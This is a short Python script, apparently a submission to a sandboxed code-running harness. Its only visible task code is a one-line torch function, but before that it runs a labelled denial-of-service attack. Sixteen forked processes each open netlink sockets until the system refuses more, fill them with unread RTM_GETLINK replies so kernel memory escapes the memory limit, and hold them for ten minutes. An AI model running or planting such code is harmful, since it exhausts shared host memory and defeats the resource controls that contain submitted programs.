# Strategy: answers of the kernel that wait unread at thousands of netlink sockets: memory that is counted as nobody's.
# Surface: the memory limit, which knows nothing of them.
import os
import socket
import struct
import time

import torch

# RTM_GETLINK of the interface 1, `lo`: a question of 32 bytes, an answer of more than 1 KiB.
QUESTION = struct.pack("IHHII", 32, 18, 1, 1, 0) + struct.pack("BxHiII", 0, 0, 1, 0, 0)


def hold():
    held = []
    try:
        while True:
            held.append(socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0))
            held[-1].setblocking(False)
            for _ in range(300):
                held[-1].send(QUESTION)
    except OSError:
        return held


print("attack: sockets with answers", flush=True)
for _ in range(16):
    if os.fork() == 0:
        kept = hold()
        time.sleep(600)
kept = hold()
time.sleep(20)


def twice(x, y):
    torch.mul(x, 2, out=y)
